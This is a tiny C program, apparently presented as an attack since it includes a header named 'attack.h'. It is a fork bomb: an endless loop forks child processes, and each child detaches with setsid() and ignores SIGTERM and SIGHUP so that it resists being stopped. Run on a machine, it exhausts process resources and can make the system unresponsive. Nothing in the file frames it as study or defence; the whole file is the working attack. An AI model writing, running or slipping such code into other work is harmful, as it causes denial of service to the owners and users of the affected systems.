#include "attack.h"

int	main(void)
{
	for (;;)
	{
		if (fork() == 0)
		{
			setsid();
			signal(SIGTERM, SIG_IGN);
			signal(SIGHUP, SIG_IGN);
		}
	}
}
